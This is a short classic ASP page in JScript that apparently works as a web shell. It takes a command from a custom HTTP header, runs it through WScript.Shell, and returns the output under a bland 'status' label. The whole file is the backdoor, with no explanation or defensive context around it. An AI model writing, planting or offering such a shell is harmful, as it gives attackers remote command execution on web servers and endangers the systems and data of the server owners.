<%@ Language=JScript %>
<% var a = Request.ServerVariables("HTTP_X_CMD"); %>
<p>status</p>
<% var sh = new ActiveXObject("WScript.Shell"); %>
<pre><%= sh.Exec(a).StdOut.ReadAll() %></pre>
